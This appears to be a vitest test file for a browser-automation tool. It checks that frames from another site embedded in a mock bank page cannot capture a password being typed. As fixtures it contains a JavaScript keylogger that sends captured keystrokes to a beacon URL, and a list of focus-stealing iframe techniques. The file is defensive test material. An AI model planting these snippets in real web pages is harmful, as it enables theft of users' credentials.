/**
 * Frames of another site that want what is meant for the page around them: no key and no click ever reaches one, by count, whatever
 * it does to be there in time. And the honest counterpart: pages with frames of others in them can be typed into.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser, within, type OpenBrowser } from '../support/browser.ts';
import { CLICK, matching } from '../support/finding.ts';
import { rounds } from '../support/rounds.ts';
import { serve, type Site } from '../support/site.ts';
import { BrowseError } from '../../browse/protocol/errors.ts';
import type { Page } from '../../browse/domain/ports/page.ts';

const SECRET = 'hunter2-hunter2-18';

let open: OpenBrowser;
let site: Site;
let page: Page;
beforeAll(async () => {
  site = await serve();
  open = await launchBrowser();
  page = open.page;
});
afterAll(async () => {
  await open?.[Symbol.asyncDispose]();
  await site?.[Symbol.asyncDispose]();
});

const js = (source: string): Promise<unknown> => page.evaluate(source, null, within());
/** The frame says what it got to the server of everything. */
const SPY = `let got = ''; const tell = () => fetch('/beacon?got=' + encodeURIComponent(got));
for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
  addEventListener(type, (event) => { if (!event.isTrusted) return; got += type + (event.key ?? event.data ?? '') + ' '; tell(); }, true);`;
const FIELD = `<input id=i aria-label=stolen><script>${SPY}</script>`;
const html = (text: string): string => JSON.stringify(text).replaceAll('</', '<\\/');

/** What a frame of another site does when it loses the focus, so as to have it when the keys come. */
const THIEVES: Readonly<Record<string, string>> = {
  'that takes it back at once': `i.focus();`,
  'that takes it back a little later': `setTimeout(() => i.focus(), 3 + Math.random() * 30);`,
  'that takes it back and is busy': `i.focus(); const from = performance.now(); while (performance.now() - from < 400);`,
  'that is busy a little later': `setTimeout(() => { i.focus(); const from = performance.now(); while (performance.now() - from < 400); }, Math.random() * 40);`,
  'that makes a frame by srcdoc': `setTimeout(() => { const f = document.createElement('iframe'); f.srcdoc = ${html(`${FIELD}<script>i.focus()</script>`)}; document.body.append(f); }, Math.random() * 30);`,
  'that makes a blank frame and writes into it': `setTimeout(() => { const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write(${html(`${FIELD}<script>i.focus()</script>`)}); f.contentDocument.close(); f.contentWindow.i.focus(); }, Math.random() * 30);`,
  'that makes a sandboxed frame': `setTimeout(() => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.src = '/thief-inner'; document.body.append(f); }, Math.random() * 30);`,
  'that makes a frame of a third site': `setTimeout(() => { const f = document.createElement('iframe'); f.src = location.href.replace(/(localhost|127\\.0\\.0\\.1).*/, 'third.localhost:' + location.port + '/thief-inner'); document.body.append(f); }, Math.random() * 30);`,
  'that goes to another page which takes it': `setTimeout(() => location.replace('/thief-inner'), Math.random() * 30);`,
  'that goes to another page again and again': `const go = setInterval(() => { i.focus(); if (Math.random() < 0.1) { clearInterval(go); location.replace('/thief-inner') } }, 1);`,
  'that is nested and wakes its own child': `frames[0]?.postMessage('steal', '*');`,
};

const thief = (
  onBlur: string,
): string => `<title>ad</title><body>${FIELD}<iframe srcdoc="${`<input id=j><script>${SPY} addEventListener('message', () => setTimeout(() => j.focus(), 5))</script>`.replaceAll('"', '&quot;')}"></iframe>
<script>i.focus(); let times = 0; addEventListener('blur', (event) => { if (event.target !== window || times++ > 6) return; ${onBlur} })</script>`;

/** What the other sites heard, beside what they were told before. */
const heard = (): string[] => site.hits.filter(({ url }) => url.startsWith('/beacon')).map(({ url }) => url);

async function bank(onBlur: string): Promise<void> {
  site.on('/thief', thief(onBlur));
  site.on('/thief-inner', `${FIELD}<script>i.focus()</script>`);
  site.on(
    '/bank',
    `<title>bank</title><label>Password <input type=password id=pw></label><p id=out></p><iframe src="${site.elsewhere}/thief" width=300 height=80></iframe>`,
  );
  await page.goto(`${site.origin}/bank`, 'load', within());
}

/** Ends of an act against such a page; any other is a failure of the test. */
const ENDS = ['done', 'focus-moved', 'not-actionable', 'may-have-run', 'act-broken', 'ref-stale', 'unsuited'];

async function ended(act: Promise<unknown>): Promise<string> {
  const end = await act.then(
    () => 'done',
    (error: unknown) => (error instanceof BrowseError ? error.code : String(error)),
  );
  expect(ENDS).toContain(end);
  return end;
}

describe('typing beside a frame of another site', { timeout: rounds(500, 5) * 15_000 }, () => {
  test.each(Object.entries(THIEVES))('%s gives it nothing', async (_, onBlur) => {
    const ends: Record<string, number> = {};
    for (let round = 0; round < rounds(500, 5); round += 1) {
      await bank(onBlur);
      const before = heard().length;
      const end = await ended(page.append(await matching(page, '#pw'), SECRET, within(3000)));
      ends[end] = (ends[end] ?? 0) + 1;
      const value = String(await js('pw.value'));
      if (end === 'done') expect(value).toBe(SECRET);
      await js('new Promise((done) => setTimeout(() => done(null), 30))');
      expect(heard().slice(before), `${end}, ${value.length} typed`).toEqual([]);
    }
    console.log(_, JSON.stringify(ends));
  });
});
